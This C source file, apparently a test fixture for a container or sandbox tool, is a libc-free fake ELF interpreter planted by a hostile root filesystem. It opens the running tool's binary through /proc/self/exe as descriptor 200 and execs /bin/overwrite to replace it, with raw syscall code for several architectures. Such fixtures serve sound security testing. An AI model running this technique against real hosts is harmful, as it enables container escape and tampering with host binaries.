// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * false-loader.c: an ELF interpreter that a hostile root contains in place of ld.so. If a script
 * begins with "#!/proc/self/exe", the kernel executes the tool with this interpreter. The
 * interpreter opens the tool's binary as descriptor 200 and executes /bin/overwrite, so that the
 * binary is no longer busy.
 *
 * This program uses no C library, because the start-up code of a static library reads the program
 * headers of the tool.
 */
#include <fcntl.h>
#include <sys/syscall.h>

/* CALL is the instruction that makes a system call. NR is the register for the number of the call,
 * and A, B and C are the registers for the arguments. LOST lists other registers that change. */
#if defined(__x86_64__)
#define CALL "syscall"
#define NR   "rax"
#define A    "rdi"
#define B    "rsi"
#define C    "rdx"
#define LOST , "rcx", "r11"
#elif defined(__i386__)
#define CALL "int $0x80"
#define NR   "eax"
#define A    "ebx"
#define B    "ecx"
#define C    "edx"
#elif defined(__aarch64__)
#define CALL "svc 0"
#define NR   "x8"
#define A    "x0"
#define B    "x1"
#define C    "x2"
#elif defined(__riscv)
#define CALL "ecall"
#define NR   "a7"
#define A    "a0"
#define B    "a1"
#define C    "a2"
#elif defined(__s390x__)
#define CALL "svc 0"
#define NR   "r1"
#define A    "r2"
#define B    "r3"
#define C    "r4"
#elif defined(__arm__)
#define CALL "svc 0"
#define NR   "r7"
#define A    "r0"
#define B    "r1"
#define C    "r2"
#elif defined(__powerpc64__)
#define CALL "sc"
#define NR   "r0"
#define A    "r3"
#define B    "r4"
#define C    "r5"
#define LOST , "r6", "r7", "r8", "r9", "r10", "r11", "r12", "cr0", "ctr"
#elif defined(__loongarch64)
#define CALL "syscall 0"
#define NR   "$a7"
#define A    "$a0"
#define B    "$a1"
#define C    "$a2"
#define LOST , "$t0", "$t1", "$t2", "$t3", "$t4", "$t5", "$t6", "$t7", "$t8"
#else
#error "add the registers of a system call of this architecture here"
#endif
#ifndef LOST
#define LOST
#endif

static long call(long number, long first, long second, long third)
{
	register long nr __asm__(NR) = number;
	register long a __asm__(A) = first;
	register long b __asm__(B) = second;
	register long c __asm__(C) = third;

	/* some architectures return the result in the register of the first argument, others in the
	 * register of the call number */
	__asm__ volatile(CALL : "+r"(nr), "+r"(a), "+r"(b), "+r"(c) : : "memory" LOST);
#if defined(__x86_64__) || defined(__i386__)
	return nr;
#else
	return a;
#endif
}

void _start(void);

void _start(void)
{
	static char self[] = "/proc/self/exe", next[] = "/bin/overwrite", word[] = "200";
	static char *argv[] = { next, word, 0 }, *envp[] = { 0 };
	long fd = call(SYS_openat, AT_FDCWD, (long)self, O_RDONLY);

	call(SYS_dup3, fd, 200, 0);
	call(SYS_execve, (long)next, (long)argv, (long)envp);
	for (;;)
		call(SYS_exit, 1, 0, 0);
}
